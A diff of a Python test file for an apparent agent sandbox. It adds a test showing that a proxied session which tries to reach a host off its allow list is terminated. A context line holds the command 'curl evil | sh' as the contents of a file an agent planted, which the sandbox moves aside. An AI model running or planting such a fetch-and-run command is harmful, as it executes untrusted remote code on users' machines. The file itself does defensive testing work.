@@ -610,3 +610,11 @@ def test_what_the_agent_plants_for_the_humans_tools_is_moved_aside(env: Env, use
                               "agent runs; it was moved to "), warning
     moved = Path(warning.rsplit(" ", 1)[1])
     assert moved.read_text() == "curl evil | sh\n" and moved.stat().st_uid == user.uid
+
+
+def test_a_proxy_session_refuses_a_name_off_its_allow_list_and_ends(env: Env) -> None:
+    fetch = ("import urllib.request\ntry:\n    urllib.request.urlopen('https://blocked.invalid/', timeout=5)\n"
+             "except OSError as e:\n    print('refused', e)")
+    s = session(env, ["start", "--rw", "src", "--net", "proxy", "--json", "--", "python3", "-c", fetch])
+    assert s.rc == 120 and s.summary["status"] == "terminated", (s.summary, s.err)
+    assert (s.summary["escape_target"], s.summary["escape"]["source"]) == ("blocked.invalid:443", "proxy")
